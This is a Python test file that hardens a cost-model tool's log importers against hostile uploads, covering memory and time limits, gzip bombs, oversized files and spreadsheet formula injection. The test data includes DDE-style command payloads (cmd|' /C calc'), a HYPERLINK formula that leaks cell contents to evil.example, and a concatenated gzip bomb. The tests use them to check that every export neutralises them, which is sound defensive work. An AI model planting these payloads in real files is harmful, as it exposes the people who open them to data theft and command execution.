"""Hostile uploads: every importer stays within a memory and time bound, bombs and oversized files are refused
before they are read whole, and text from a log can never become a spreadsheet formula on any export path.

(The mangled-bytes fuzz campaign over every importer is tests/usage/test_fuzz.py; the scenario loader's is
tests/hardening/test_fuzz_scenario.py.)
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import re
import subprocess
import sys
import tempfile
import time
import tracemalloc
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from costmodel.errors import CostModelError, ImportRejected
from costmodel.export.sanitize import FORMULA_TRIGGERS
from costmodel.importers import IMPORTERS, ImportLimits
from costmodel.importers._base import iter_json_documents
from costmodel.store import connect
from costmodel.usage import RowsRejected, import_file, reject_csv
from tests.hardening.cli import opentco
from tests.hardening.logs import litellm_jsonl

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = ROOT / "tests" / "fixtures"
INFLATED_BYTES = 4 * 1024**2
MAX_PEAK_GROWTH_MB = 128
"""Resident memory an import may add on top of what the process held before it (files of 4 MiB)."""
MIN_MB_PER_S = 0.5
"""Slowest acceptable import speed (the slowest format reads about 2.5 MB/s on one core)."""


# ---------------------------------------------------------------- memory and time, every importer


def _inflate(sample: Path, target: int) -> bytes:
    """The sample repeated until it is about `target` bytes, in its own format."""
    data = sample.read_bytes()
    k = target // len(data) + 1
    if sample.suffix == ".parquet":
        table = pq.read_table(sample)
        out = io.BytesIO()
        pq.write_table(pa.concat_tables([table] * (k * 40)), out)  # compresses ~40×: repeat more
        return out.getvalue()
    if sample.suffix == ".json":
        doc = json.loads(data)
        if isinstance(doc, list):
            return json.dumps(doc * k).encode()
        key = max((key for key, v in doc.items() if isinstance(v, list)), key=lambda key: len(json.dumps(doc[key])))
        return json.dumps({**doc, key: doc[key] * k}).encode()
    head, _, body = data.partition(b"\n") if sample.suffix == ".csv" else (b"", b"", data)
    body = body if body.endswith(b"\n") else body + b"\n"
    return (head + b"\n" if head else b"") + body * k


def _samples() -> list[Path]:
    return [p for imp in IMPORTERS for p in sorted((FIXTURES / imp.name).iterdir()) if p.name != "README.md"]


@pytest.mark.skipif(not Path("/proc/self/clear_refs").exists(), reason="peak memory is read from Linux /proc")
def test_every_importer_imports_a_big_file_in_bounded_memory_and_time(tmp_path) -> None:
    files = []
    for sample in _samples():
        f = tmp_path / f"{sample.parent.name}--{sample.name}"
        f.write_bytes(_inflate(sample, INFLATED_BYTES))
        files.append(f)
    assert {f.name.split("--")[0] for f in files} == {i.name for i in IMPORTERS}  # every importer has its file
    # The bound is on CPU seconds (the work done), which other processes on a busy machine do not inflate; the
    # kernel stops the child once all files together pass it, and the wall-clock timeout only guards a hang.
    cpu_bound_s = sum(2 + f.stat().st_size / 1e6 / MIN_MB_PER_S for f in files)
    out = subprocess.run(
        [sys.executable, "-m", "tests.hardening.bounded_child", str(tmp_path / "b.duckdb"), *map(str, files)],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT), "BOUNDED_CHILD_CPU_S": str(cpu_bound_s)},
        capture_output=True,
        text=True,
        timeout=20 * cpu_bound_s,
    )
    assert out.returncode == 0, f"exit {out.returncode} (-24: past {cpu_bound_s:.0f} CPU s): {out.stderr[-3000:]}"
    reports = [json.loads(line) for line in out.stdout.splitlines()]
    assert len(reports) == len(files)
    for r, f in zip(reports, files, strict=True):
        mb = f.stat().st_size / 1e6
        assert r["outcome"].startswith("imported"), r
        assert r["cpu_s"] < 2 + mb / MIN_MB_PER_S, r
        assert r["peak_mb"] - r["rss_mb"] < MAX_PEAK_GROWTH_MB, r


def test_a_file_without_line_breaks_is_read_in_linear_time() -> None:
    lines = litellm_jsonl(range(50_000)).decode().splitlines()
    doc = ("[" + ",".join(lines) + "]").encode()  # a minified JSON array: one 18 MB line
    # CPU seconds of this process, both single-threaded: what the reading cost, not how busy the machine was
    start = time.process_time()
    json.loads(doc)
    parse_s = time.process_time() - start
    start = time.process_time()
    (_, parsed), *_ = iter_json_documents(io.BytesIO(doc), file="minified.json", limit_bytes=1 << 30)
    read_s = time.process_time() - start
    assert len(parsed) == 50_000
    # quadratic reading of one 18 MB line takes minutes of CPU
    assert read_s < 5 * parse_s + 1.0, f"reading took {read_s:.2f} CPU s, parsing the JSON alone {parse_s:.2f}"


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        (
            "deep.jsonl",
            b'{"request_id": "a", "call_type": "x", "spend": 1, "startTime": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
            "nested thousands of levels deep",
        ),
        ("wide.csv", b"timestamp,model,input_tokens,output_tokens\n" + b"x" * (3 * 1024**2) + b",m,1,1\n", "line 2"),
        ("binary.csv", b"timestamp,model,input_tokens,output_tokens\n" + bytes(range(256)) * 4096, "UTF-8"),
        ("digits.csv", b"timestamp,model,input_tokens,output_tokens\n2025-03-01,m," + b"9" * 100_000 + b",1\n", ""),
    ],
    ids=["deep-json", "giant-field", "binary", "huge-number"],
)
def test_pathological_shapes_are_refused_quickly_with_a_message(tmp_path, name, data, message) -> None:
    con = connect(tmp_path / "s.duckdb")
    start = time.process_time()  # CPU seconds: the work done, whatever else the machine is running
    with pytest.raises(CostModelError) as err:
        import_file(con, data, file_name=name)
    assert time.process_time() - start < 10
    assert name in str(err.value) and message in str(err.value)
    assert con.execute("SELECT count(*) FROM imports").fetchone() == (0,)
    con.close()


def _litellm_with_numeric_provider() -> bytes:
    doc = json.loads((FIXTURES / "litellm-spend-logs" / "spend_logs.json").read_text())
    doc[1]["custom_llm_provider"] = 0  # a number where the export has text
    return json.dumps(doc).encode()


def _focus_with_infinite_quantity() -> bytes:
    head, first, *rest = (FIXTURES / "focus" / "focus_1_2_genai.csv").read_text().splitlines()
    cells = next(csv.reader([first]))
    cells[next(csv.reader([head])).index("ConsumedQuantity")] = "Infinity"
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    return "\n".join([head, out.getvalue().rstrip("\n"), *rest]).encode() + b"\n"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        pytest.param(
            "spend_logs.json",
            _litellm_with_numeric_provider(),
            id="litellm-numeric-provider",
        ),
        pytest.param(
            "focus.csv",
            _focus_with_infinite_quantity(),
            id="focus-infinite-quantity",
        ),
    ],
)
def test_wrong_json_types_and_infinite_numbers_give_a_message_not_a_traceback(tmp_path, name, data) -> None:
    con = connect(tmp_path / "s.duckdb")
    try:
        import_file(con, data, file_name=name)
    except CostModelError as ex:
        assert name in str(ex)
    finally:
        con.close()


# ---------------------------------------------------------------- bombs and oversized files


def _leftover_temp_dirs() -> set[str]:
    return {p for p in os.listdir(tempfile.gettempdir()) if p.startswith("opentco-import-")}


def test_a_gzip_bomb_is_refused_while_expanding_in_small_memory(tmp_path, monkeypatch) -> None:
    # 1 GiB of zeros as 1,024 concatenated gzip members (gzip readers expand them all): a 1 MB file
    bomb = gzip.compress(b"\0" * (1 << 20), compresslevel=9) * 1024
    assert len(bomb) < 2 * 1024**2
    con = connect(tmp_path / "s.duckdb")
    # A scratch folder of this test's own: imports on the other xdist worker share the system temp folder
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    before = _leftover_temp_dirs()
    assert before == set()
    limits = ImportLimits(max_expanded_bytes=32 * 1024**2)
    tracemalloc.start()
    start = time.process_time()  # CPU seconds: the work done, whatever else the machine is running
    try:
        with pytest.raises(ImportRejected, match=r"^bomb\.csv\.gz: expands past the 32 MiB limit for compressed files"):
            import_file(con, bomb, file_name="bomb.csv.gz", limits=limits)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.process_time() - start < 5  # stopped at the limit, not after expanding the whole gigabyte
    assert peak < 3 * len(bomb) + 8 * 1024**2  # the upload itself plus one chunk of expansion, never the 1 GiB
    assert _leftover_temp_dirs() <= before  # the partial expansion is deleted
    assert con.execute("SELECT count(*) FROM imports").fetchone() == (0,)
    con.close()


def test_the_upload_page_passes_a_finite_limit() -> None:
    source = (ROOT / "dashboard" / "app_pages" / "usage_logs.py").read_text()
    assert "_LIMITS = ImportLimits(max_file_bytes=200 * 1024**2)" in source
    assert "limits=_LIMITS" in source
    d = ImportLimits()
    assert d.max_file_bytes <= 4 * 1024**3 and d.max_expanded_bytes <= 4 * 1024**3


def test_an_oversized_file_is_refused_before_it_is_read(tmp_path) -> None:
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as fp:  # sparse: 5 GiB on paper, nothing on disk
        fp.write(b"timestamp,model,input_tokens,output_tokens\n")
        fp.truncate(5 * 1024**3)
    con = connect(tmp_path / "s.duckdb")
    upload = b"x" * 2 * 1024**2
    tracemalloc.start()
    start = time.process_time()  # CPU seconds: the work done, whatever else the machine is running
    try:
        with pytest.raises(ImportRejected, match=r"^huge\.csv: 5,120 MiB is past the 4,096 MiB limit for one file"):
            import_file(con, huge)
        with pytest.raises(ImportRejected, match=r"^upload\.csv: 2 MiB is past the 1 MiB limit"):
            import_file(con, upload, file_name="upload.csv", limits=ImportLimits(max_file_bytes=1024**2))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.process_time() - start < 2 and peak < 1024**2  # neither was read, nor copied to disk
    con.close()
    out = opentco("import", str(huge), "--db", str(tmp_path / "s.duckdb"))
    assert out.returncode == 2 and "past the 4,096 MiB limit for one file; split it" in out.stderr


# ---------------------------------------------------------------- formula injection on every export path

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
"""Formula-like names (a leading CR is covered by tests/export; in a CSV log it hits the defect below)."""


def _hostile_log() -> bytes:
    """A generic CSV whose model, project, user and request ids are formulas, with some rows rejected."""
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    w.writerow(
        ["timestamp", "model", "input_tokens", "output_tokens", "cost_usd", "provider", "project", "user", "request_id"]
    )
    for i, text in enumerate(HOSTILE):
        w.writerow([f"2025-03-0{i + 1}T10:00:00Z", text, 1000, 100, "", "", text, text, f"h{i}"])
        # a priced model whose reported cost is far off: flagged, so its (hostile) request id is shown
        w.writerow([f"2025-03-0{i + 1}T11:00:00Z", "gpt-4o", 1000, 100, "9.99", "openai", text, text, text])
        w.writerow([f"2025-03-0{i + 1}T12:00:00Z", "gpt-4o", text, 100, "", "openai", "p", "u", f"bad{i}"])  # rejected
    return out.getvalue().encode()


HOSTILE_FILE_NAME = "=cmd|' /C calc'!A0.csv"


def test_a_multi_line_cell_and_a_bad_row_import_the_good_rows(tmp_path) -> None:
    con = connect(tmp_path / "s.duckdb")
    data = (
        b"timestamp,model,input_tokens,output_tokens,project\n"
        b'2025-03-01T10:00:00Z,gpt-4o,1,1,"two\nlines"\n'
        b"2025-03-01T11:00:00Z,gpt-4o,oops,1,y\n"
        b"2025-03-01T12:00:00Z,gpt-4o,1,1,x\n"
    )
    result = import_file(con, data, file_name="multi-line.csv")
    assert (result.rows_imported, result.rows_rejected) == (2, 1)
    con.close()


def _assert_csv_neutralised(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode())))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_TRIGGERS):
                assert re.fullmatch(r"[+-]?\d+(\.\d*)?", cell), f"formula-like cell {cell!r} in {row}"
    return rows


def test_reject_files_know_the_same_formula_triggers_as_the_exports() -> None:
    from costmodel.usage import ingest

    assert ingest._FORMULA_TRIGGERS == FORMULA_TRIGGERS


def test_reject_files_neutralise_formulas(tmp_path) -> None:
    con = connect(tmp_path / "s.duckdb")
    result = import_file(con, _hostile_log(), file_name=HOSTILE_FILE_NAME)
    assert result.rows_rejected == len(HOSTILE)
    rows = _assert_csv_neutralised(result.reject_csv())
    assert rows[1][0] == "'" + HOSTILE_FILE_NAME and {r[4] for r in rows[1:]} == {"'" + t for t in HOSTILE}
    assert _assert_csv_neutralised(reject_csv(con, result.import_id)) == rows  # the history's download too
    con.close()
    # every row rejected: the error's reject file
    con = connect(tmp_path / "t.duckdb")
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(["timestamp", "model", "input_tokens", "output_tokens"])
    w.writerows([["2025-03-01T00:00:00Z", "gpt-4o", t, 1] for t in HOSTILE])
    only_bad = out.getvalue().encode()
    with pytest.raises(RowsRejected) as err:
        import_file(con, only_bad, file_name=HOSTILE_FILE_NAME)
    _assert_csv_neutralised(err.value.result.reject_csv())
    con.close()
    # and the one the CLI writes
    log = tmp_path / "hostile.csv"
    log.write_bytes(_hostile_log())
    out = opentco("import", str(log), "--db", str(tmp_path / "c.duckdb"), "--rejects-dir", str(tmp_path))
    assert out.returncode == 0, out.stderr
    _assert_csv_neutralised((tmp_path / "hostile.csv.rejects.csv").read_bytes())


def _decode(text: str) -> str:
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def test_workbook_and_summary_exported_from_a_hostile_log_hold_no_formula(tmp_path) -> None:
    db = tmp_path / "s.duckdb"
    con = connect(db)
    import_file(con, _hostile_log(), file_name=HOSTILE_FILE_NAME)
    con.close()
    scenario = json.loads((ROOT / "data" / "scenarios" / "api-bill-10k-50k.json").read_text())
    scenario["name"] = HOSTILE[0][:100]
    (tmp_path / "s.json").write_text(json.dumps(scenario))
    xlsx, html = tmp_path / "x.xlsx", tmp_path / "x.html"
    out = opentco("export", str(tmp_path / "s.json"), "--xlsx", str(xlsx), "--html", str(html), "--db", str(db))
    assert out.returncode == 0, out.stderr
    book = openpyxl.load_workbook(xlsx)
    found = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":  # the workbook's own live formulas: no log text inside
                    assert not any(h.strip()[:12] in str(cell.value) for h in HOSTILE), cell.coordinate
                elif isinstance(cell.value, str):
                    text = _decode(cell.value)
                    if text in HOSTILE or text == HOSTILE[0][:100]:
                        found.add(text)
                    if text.startswith(FORMULA_TRIGGERS) and not re.fullmatch(r"[+-]?[\d.,]+", text):
                        assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, text)
    assert set(HOSTILE) <= found  # the usage sheet really carries the log's names
    page = html.read_text()
    assert "<script" not in page.lower() and 'href="http://evil' not in page


@pytest.fixture
def _fresh_caches() -> None:
    st.cache_data.clear()
    st.cache_resource.clear()


def test_usage_page_tables_and_downloads_neutralise_formulas(tmp_path, _fresh_caches) -> None:
    con = connect()
    import_file(con, _hostile_log(), file_name=HOSTILE_FILE_NAME)
    con.close()
    at = AppTest.from_file(str(ROOT / "dashboard" / "app_pages" / "usage_logs.py"), default_timeout=60).run()
    assert not at.exception
    history, flagged = at.dataframe[0].value, at.dataframe[1].value
    assert history["file_name"].tolist() == ["'" + HOSTILE_FILE_NAME]
    assert set(flagged["request_id"]) == {"'" + t for t in HOSTILE}
    for frame in (history, flagged):
        for col in frame.columns:
            for v in frame[col]:
                assert not (isinstance(v, str) and v.startswith(FORMULA_TRIGGERS)), (col, v)
